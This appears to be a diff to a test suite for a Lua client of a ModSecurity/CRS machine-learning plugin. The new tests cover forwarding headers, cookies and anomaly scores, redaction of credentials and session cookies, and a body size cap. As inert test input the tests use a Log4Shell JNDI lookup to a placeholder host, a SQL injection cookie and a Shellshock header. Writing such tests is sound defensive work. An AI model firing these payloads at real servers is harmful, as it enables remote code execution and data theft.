@@ -2,7 +2,9 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { parseRequestBody } from '../../src/contract/parse-request';
-import { APACHE_REQUIRED, cannotRun, detectEnvironment } from './support/environment';
+import { cannotRun } from './support/cannot-run';
+import { APACHE_REQUIRED, detectEnvironment } from './support/environment';
+import { formFields, pairsField } from './support/form-fields';
 import { createLuaDriver } from './support/lua-driver';
 import { startCliServer, startEndpoint, type CliServer, type Endpoint } from './support/ml-endpoints';
 
@@ -89,6 +91,10 @@ describeServers('machine-learning-client.lua against the CLI server', () => {
         sizes: [['FILES_SIZES:up', 1024]],
         hour: 7,
         day: 29,
+        version: 2,
+        headers: [],
+        cookies: [],
+        crs: [],
       });
     });
 
@@ -100,6 +106,96 @@ describeServers('machine-learning-client.lua against the CLI server', () => {
       expect(raw.body).toBe('raw {json} & "x"=1%\n');
       expect(form.body).toBeUndefined();
       expect(form.args).toEqual([['ARGS:a', '1']]);
+    });
+
+    describe('contract v2: headers, cookies, CRS scores, body cap, privacy settings', () => {
+      const HEADERS: Array<[string, string]> = [
+        ['REQUEST_HEADERS:Host', 'shop.example'],
+        ['REQUEST_HEADERS:User-Agent', '${jndi:ldap://x.example/a} "q" \\ é'],
+        ['REQUEST_HEADERS:Authorization', 'Bearer secret-token'],
+        ['REQUEST_HEADERS:Cookie', 'lang=en; PHPSESSID=abc123'],
+        ['REQUEST_HEADERS:X-Api-Key', 'k-123'],
+        ['REQUEST_HEADERS:X-Forwarded-For', '10.0.0.1'],
+        ['REQUEST_HEADERS:X-Forwarded-For', '10.0.0.2'],
+      ];
+      const COOKIES: Array<[string, string]> = [
+        ['REQUEST_COOKIES:lang', 'en'],
+        ['REQUEST_COOKIES:PHPSESSID', 'abc123'],
+        ['REQUEST_COOKIES:pref', "1' OR '1'='1"],
+        ['REQUEST_COOKIES:csrf_token', 't0k'],
+      ];
+      const SCORES = { 'inbound_anomaly_score_pl1': '5', 'inbound_anomaly_score_pl2': '0', 'sql_injection_score': '5', 'xss_score': '0', 'anomaly_score': 'oops' };
+      const last = () => formFields(record.bodies[record.bodies.length - 1]);
+
+      test('defaults: v=2, headers minus Authorization/Cookie/X-Api-Key, session and token cookies emptied, CRS scores as numbers', async () => {
+        await drive(record.url, { REQUEST_HEADERS: HEADERS, REQUEST_COOKIES: COOKIES, tx: SCORES });
+        const fields = last();
+        expect(fields.get('v')).toBe('2');
+        expect(pairsField(fields, 'headers')).toEqual([
+          ['REQUEST_HEADERS:Host', 'shop.example'],
+          ['REQUEST_HEADERS:User-Agent', '${jndi:ldap://x.example/a} "q" \\ é'],
+          ['REQUEST_HEADERS:X-Forwarded-For', '10.0.0.1'],
+          ['REQUEST_HEADERS:X-Forwarded-For', '10.0.0.2'],
+        ]);
+        expect(pairsField(fields, 'cookies')).toEqual([
+          ['REQUEST_COOKIES:lang', 'en'],
+          ['REQUEST_COOKIES:PHPSESSID', ''],
+          ['REQUEST_COOKIES:pref', "1' OR '1'='1"],
+          ['REQUEST_COOKIES:csrf_token', ''],
+        ]);
+        // Only CRS's own names, only integers, as JSON numbers; scores a request lacks are not sent.
+        expect(fields.get('crs')).toBe('{"inbound_anomaly_score_pl1":5,"inbound_anomaly_score_pl2":0,"sql_injection_score":5,"xss_score":0}');
+        // And the server's parser reads them so.
+        const parsed = parseRequestBody(record.bodies[record.bodies.length - 1]);
+        expect(parsed.version).toBe(2);
+        expect(parsed.crs).toEqual([['inbound_anomaly_score_pl1', 5], ['inbound_anomaly_score_pl2', 0], ['sql_injection_score', 5], ['xss_score', 0]]);
+        expect(parsed.headers).toEqual(pairsField(fields, 'headers'));
+        expect(parsed.cookies).toEqual(pairsField(fields, 'cookies'));
+      });
+
+      test('exclude_headers / redact_cookies patterns, and each part switched off', async () => {
+        await drive(record.url, {
+          REQUEST_HEADERS: HEADERS,
+          REQUEST_COOKIES: COOKIES,
+          tx: { 'machine-learning-plugin_exclude_headers': 'x-* HOST', 'machine-learning-plugin_redact_cookies': 'lang *ref' },
+        });
+        let fields = last();
+        expect(pairsField(fields, 'headers')?.map(([name]) => name)).toEqual(['REQUEST_HEADERS:User-Agent', 'REQUEST_HEADERS:Authorization', 'REQUEST_HEADERS:Cookie']);
+        expect(pairsField(fields, 'cookies')?.map(([, value]) => value)).toEqual(['', 'abc123', '', 't0k']);
+        await drive(record.url, {
+          REQUEST_HEADERS: HEADERS,
+          REQUEST_COOKIES: COOKIES,
+          tx: { ...SCORES, 'machine-learning-plugin_send_headers': '0', 'machine-learning-plugin_send_cookies': '0', 'machine-learning-plugin_send_crs_scores': '0' },
+        });
+        fields = last();
+        expect([...fields.keys()]).toEqual(['v', 'method', 'path', 'args', 'files', 'sizes', 'hour', 'day']);
+      });
+
+      test('a raw body is capped at body_max_bytes; 0 never sends it', async () => {
+        const raw = `{"q":"${'x'.repeat(100)}"}`;
+        await drive(record.url, { vars: { REQUEST_METHOD: 'POST', REQUEST_BODY: raw }, tx: { 'machine-learning-plugin_body_max_bytes': '10' } });
+        expect(last().get('body')).toBe(raw.slice(0, 10));
+        await drive(record.url, { vars: { REQUEST_METHOD: 'POST', REQUEST_BODY: raw } });
+        expect(last().get('body')).toBe(raw);
+        await drive(record.url, { vars: { REQUEST_METHOD: 'POST', REQUEST_BODY: raw }, tx: { 'machine-learning-plugin_body_max_bytes': '0' } });
+        expect(last().has('body')).toBe(false);
+      });
+
+      test('libmodsecurity 3: headers and cookies read from FULL_REQUEST', async () => {
+        const full = 'Host: shop.example\nUser-Agent: () { :; }; echo x: y\nAuthorization: Basic eA==\nCookie: lang=en;  PHPSESSID=abc; flag\nCookie: b=2\n\n\nbody\n\nmore';
+        await drive(record.url, { vars: { FULL_REQUEST: full } }, { MOCK_ENGINE: 'libmodsecurity3' });
+        const fields = last();
+        expect(pairsField(fields, 'headers')).toEqual([
+          ['REQUEST_HEADERS:Host', 'shop.example'],
+          ['REQUEST_HEADERS:User-Agent', '() { :; }; echo x: y'],
+        ]);
+        expect(pairsField(fields, 'cookies')).toEqual([
+          ['REQUEST_COOKIES:lang', 'en'],
+          ['REQUEST_COOKIES:PHPSESSID', ''],
+          ['REQUEST_COOKIES:flag', ''],
+          ['REQUEST_COOKIES:b', '2'],
+        ]);
+      });
     });
 
     test('401 from the real server: block, and the negative score survives the setvar sign rule', async () => {
